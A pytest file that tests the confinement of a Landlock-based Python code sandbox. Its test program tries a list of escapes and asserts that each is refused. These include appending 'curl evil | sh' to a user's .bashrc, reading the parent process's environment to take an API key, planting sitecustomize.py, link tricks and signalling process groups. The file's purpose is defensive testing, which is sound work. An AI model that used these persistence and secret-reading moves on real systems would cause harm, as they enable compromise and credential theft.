"""The `python` tool's sandbox with real programs: writes only its fresh temporary folder (removed
afterwards), as root and as a user who is not, whose own files (a stand-in home with `.bashrc` and a
recipe's plugin module) stay unchanged; reads only the system's folders and its Python; no UNIX sockets,
no leaving its process group (tried from a child, which no refusal but the sandbox's stops), no kill -1
or signal to a process group, no reach into the parent; an endless print stopped, not buffered; a refusal, never an unconfined run, without
Landlock."""

from __future__ import annotations

import json
import os
import resource
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from arealcli.runtime.tools import ToolError, run_python, sandbox

OTHER_UID = 4242  # a user who is not root, for the test run as root

ATTEMPTS = r"""
import json, os, signal, socket, time


def attempt(f):
    try:
        f()
        return "done"
    except OSError as e:
        return type(e).__name__


def in_a_child(f):
    # f in a forked child, no session or group leader (the program is one, so its own setsid() fails
    # anyway): its exit code says whether f worked
    pid = os.fork()
    if pid == 0:
        os._exit(0 if attempt(f) == "done" else 1)
    return "done" if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0 else "refused"


def signal_a_child_of_its_own():
    pid = os.fork()
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)


rc, plugin = os.path.join(HOME_DIR, ".bashrc"), os.path.join(HOME_DIR, "my_tool.py")
out = {
    "append to .bashrc": attempt(lambda: open(rc, "a").write("curl evil | sh\n")),
    "rewrite the plugin": attempt(lambda: open(plugin, "w").write("import os\n")),
    "a new module beside": attempt(lambda: open(os.path.join(HOME_DIR, "sitecustomize.py"), "w").close()),
    "rename the plugin": attempt(lambda: os.replace(plugin, plugin + ".bak")),
    "remove .bashrc": attempt(lambda: os.remove(rc)),
    "chmod .bashrc": attempt(lambda: os.chmod(rc, 0o777)),
    "truncate .bashrc": attempt(lambda: os.truncate(rc, 0)),
    "hard link, then write": attempt(lambda: (os.link(rc, "hard"), open("hard", "a").write("x"))),
    "symlink, then write": attempt(lambda: (os.symlink(rc, "soft"), open("soft", "a").write("x"))),
    "write /dev/shm": attempt(lambda: open("/dev/shm/areal-evil", "w").close()),
    "read .bashrc": attempt(lambda: open(rc).read()),
    "list /tmp": attempt(lambda: os.listdir("/tmp")),
    "read the parent's environment": attempt(lambda: open(f"/proc/{os.getppid()}/environ", "rb").read()),
    "signal the parent": attempt(lambda: os.kill(os.getppid(), 0)),
    "a UNIX socket": attempt(lambda: socket.socket(socket.AF_UNIX)),
    "leave the process group (setsid)": in_a_child(os.setsid),
    "leave the process group (setpgid)": in_a_child(lambda: os.setpgid(0, 0)),
    "signal every process it may (kill -1)": attempt(lambda: os.kill(-1, 0)),
    "signal a process group": attempt(lambda: os.killpg(os.getpgid(0), 0)),
    "signal a child of its own": attempt(signal_a_child_of_its_own),
    "write its own folder": attempt(lambda: (os.makedirs("a/b"), open("a/b/f.txt", "w").write("ok"))),
    "a locked folder of its own": attempt(lambda: (os.mkdir("locked", 0o300), open("locked/f", "w").close())),
    "write /dev/null": attempt(lambda: open("/dev/null", "w").write("x")),
    "read /etc/passwd": attempt(lambda: open("/etc/passwd").read()),
}
out["read back"] = open("a/b/f.txt").read()
out["folder"] = os.getcwd()
print(json.dumps(out))
"""
REFUSED = [
    "append to .bashrc", "rewrite the plugin", "a new module beside", "rename the plugin", "remove .bashrc",
    "chmod .bashrc", "truncate .bashrc", "hard link, then write", "symlink, then write", "write /dev/shm",
    "read .bashrc", "list /tmp", "read the parent's environment", "a UNIX socket",
    "leave the process group (setsid)", "leave the process group (setpgid)",
    "signal every process it may (kill -1)", "signal a process group",
]  # fmt: skip
ALLOWED = [
    "write its own folder", "a locked folder of its own", "write /dev/null", "read /etc/passwd",
    "signal a child of its own",
]  # fmt: skip


def program(home: Path) -> str:
    return f"HOME_DIR = {str(home)!r}\n" + ATTEMPTS


@pytest.fixture
def scratch():
    """A folder under the system's temporary folder that any user can reach (pytest's own is 0700)."""
    path = Path(tempfile.mkdtemp(prefix="areal-sandbox-test-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def stand_in_home(root: Path, owner: int | None, mode: int) -> Path:
    """A user's home with a `.bashrc` and a recipe's plugin module, writable by `owner` on the file modes
    alone (so only the sandbox stands in the way)."""
    home = root / "home"
    home.mkdir()
    (home / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
    (home / "my_tool.py").write_text("from arealcli.api import register_tool\n")
    for path in (home, home / ".bashrc", home / "my_tool.py"):
        path.chmod(mode | (0o111 if path.is_dir() else 0))
        if owner is not None:
            os.chown(path, owner, owner)
    return home


def snapshot(home: Path) -> dict[str, tuple]:
    return {p.name: (p.read_bytes(), p.stat().st_mode, p.stat().st_mtime_ns) for p in sorted(home.iterdir())}


def check(result: dict, home: Path, before: dict, signals_scoped: bool) -> None:
    for what in REFUSED + (["signal the parent"] if signals_scoped else []):
        assert result[what] != "done", f"the sandboxed program could {what}"
    for what in ALLOWED:
        assert result[what] == "done", f"the sandboxed program could not {what}: {result[what]}"
    assert result["read back"] == "ok"
    assert snapshot(home) == before
    assert not os.path.lexists(result["folder"]), "the temporary folder outlived the program"


def test_writes_only_its_own_temporary_folder(scratch):
    """Run as whoever runs the tests (root here: the sandbox drops to `nobody`); the stand-in home is
    world-writable, so the file modes alone would let the program in."""
    home = stand_in_home(scratch, None, 0o666)
    before = snapshot(home)
    check(json.loads(run_python(program(home), timeout_s=30)), home, before, sandbox.landlock_abi() >= 6)


@pytest.mark.skipif(os.geteuid() != 0, reason="switching to another user needs root")
def test_a_user_who_is_not_root_cannot_write_their_own_files(scratch):
    """The sandbox as a user who is not root: the stand-in home is theirs (0700), yet the program writes
    none of it, nor reads the environment (a key) of, nor signals, the process that started it."""
    try:
        python = sandbox.interpreter()  # one that any user can run
    except sandbox.SandboxError:
        pytest.skip("no Python interpreter that another user can run")
    lib = scratch / "lib"
    lib.mkdir(mode=0o755)
    shutil.copy(sandbox.__file__, lib / "sandbox.py")  # standard library only: importable on its own
    (lib / "sandbox.py").chmod(0o644)
    home = stand_in_home(scratch, OTHER_UID, 0o600)
    home.chmod(0o700)
    before = snapshot(home)
    driver = f"import sys\nsys.path.insert(0, {str(lib)!r})\nimport sandbox\n" \
             f"print(sandbox.run_confined({program(home)!r}, timeout_s=30))"  # fmt: skip
    done = subprocess.run(
        [python, "-I", "-c", driver], user=OTHER_UID, group=OTHER_UID, extra_groups=[], cwd=lib,
        env={"PATH": "/usr/bin:/bin", "AREAL_API_KEY": "the-run-key"}, capture_output=True, text=True,
        timeout=120,
    )  # fmt: skip
    if "network isolation could not be set up" in done.stderr:
        pytest.skip("this machine gives users who are not root no user namespaces")
    assert done.returncode == 0, done.stderr[-2000:]
    assert "the-run-key" not in done.stdout
    check(json.loads(done.stdout), home, before, sandbox.landlock_abi() >= 6)


def test_its_folder_is_removed_after_a_timeout_or_an_error(scratch, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # where the sandbox makes its folders
    with pytest.raises(ToolError, match="no result within"):
        run_python("open('f', 'w').write('x')\nwhile True:\n    pass", timeout_s=1.0)
    with pytest.raises(ToolError, match="ZeroDivisionError"):
        run_python("import os\nos.makedirs('a/b')\nopen('a/b/f', 'w').close()\n1 / 0")
    assert list(scratch.iterdir()) == []


def test_an_endless_print_is_stopped_not_buffered():
    """A program that prints without end returns within its time limit with its output cut, read as it
    came: the trainer's memory does not fill with it (communicate() would hold gigabytes by then)."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    out = run_python('while True:\n    print("x" * 65536)', timeout_s=60, max_output_chars=2000)
    took = time.monotonic() - started
    assert out.startswith("x" * 2000) and out.endswith("[stopped: it printed more than 2000 characters]")
    assert len(out) < 2100
    assert took < 50, f"took {took:.0f} s: the program ran to its time limit"
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mib < 200, f"the trainer's peak memory grew by {grown_mib:.0f} MiB"


def test_an_endless_error_stream_is_stopped_too():
    started = time.monotonic()
    with pytest.raises(ToolError, match="more than 1 MiB of errors"):
        run_python('import sys\nwhile True:\n    sys.stderr.write("e" * 65536)', timeout_s=60)
    assert time.monotonic() - started < 50


def test_without_landlock_the_program_is_refused_not_run_unconfined(monkeypatch):
    monkeypatch.setattr(sandbox, "landlock_abi", lambda: 0)  # injected: a kernel without Landlock
    with pytest.raises(ToolError, match="no Landlock .* not run"):
        run_python("print('ran')")


def test_a_sandbox_that_cannot_be_set_up_refuses_to_run(monkeypatch):
    def not_a_ruleset(workdir: str, readable: list[str]) -> int:
        return os.open("/dev/null", os.O_RDONLY | os.O_CLOEXEC)  # injected: Landlock refuses it

    monkeypatch.setattr(sandbox, "_landlock_ruleset", not_a_ruleset)
    with pytest.raises(ToolError, match="Landlock could not be set up on this machine, so the program"):
        run_python("print('ran')")
